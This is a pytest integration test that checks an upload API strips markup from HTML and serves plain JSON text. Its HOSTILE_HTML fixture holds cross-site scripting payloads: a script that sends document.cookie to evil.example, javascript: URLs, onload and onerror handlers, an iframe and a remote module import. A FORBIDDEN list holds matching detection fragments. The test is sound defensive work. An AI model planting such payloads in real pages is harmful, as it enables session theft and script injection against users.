"""Uploaded HTML is parsed into text, never run and never served back as markup: scripts,
handlers and frames are dropped, and what is served is JSON that browsers will not sniff."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

pytestmark = pytest.mark.integration

HOSTILE_HTML = """<!doctype html><html><head><title>Ferry Timetable Changes</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('onload')"><article>
<h1>Ferry Timetable Changes</h1>
<p>The harbour authority said on Monday that the morning ferry to Lisk Island will leave at
6:40 instead of 7:15 from June onwards.<img src=x onerror="alert('img')"></p>
<iframe src="https://evil.example/frame"></iframe>
<p>The change lets commuters reach the <a href="javascript:alert('link')">island school</a>
before its first lesson, a spokesman said.</p>
<script type="module">import('https://evil.example/module.js')</script>
</article></body></html>"""

FORBIDDEN = ["<script", "fetch(", "evil.example", "onerror", "onload", "javascript:", "<iframe",
             "alert(", "<img", "<p>", "<"]


@pytest.fixture(scope="module")
def uploaded(client: TestClient) -> Iterator[str]:
    response = client.post(
        "/v1/documents/upload", data={"id": "ferry"},
        files={"file": ("ferry.html", HOSTILE_HTML.encode(), "text/html")})
    assert response.status_code == 200, response.text
    yield str(response.json()["id"])
    client.delete("/v1/documents/ferry")


def test_stored_text_holds_no_markup(client: TestClient, uploaded: str) -> None:
    response = client.get(f"/v1/documents/{uploaded}")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in response.headers["content-security-policy"]
    document = response.json()
    assert "6:40 instead of 7:15" in document["text"]
    for fragment in FORBIDDEN:
        assert fragment not in document["text"], fragment
        assert fragment not in document["title"], fragment


def test_answers_quote_text_not_markup(client: TestClient, uploaded: str) -> None:
    answer = client.post("/v1/ask", json={
        "question": "When will the morning ferry to Lisk Island leave?",
        "document_ids": [uploaded]}).json()
    assert answer["passages"]
    quoted = [p["text"] for p in answer["passages"]] + [c["quote"] for c in answer["citations"]]
    for text in quoted:
        for fragment in FORBIDDEN:
            assert fragment not in text, fragment
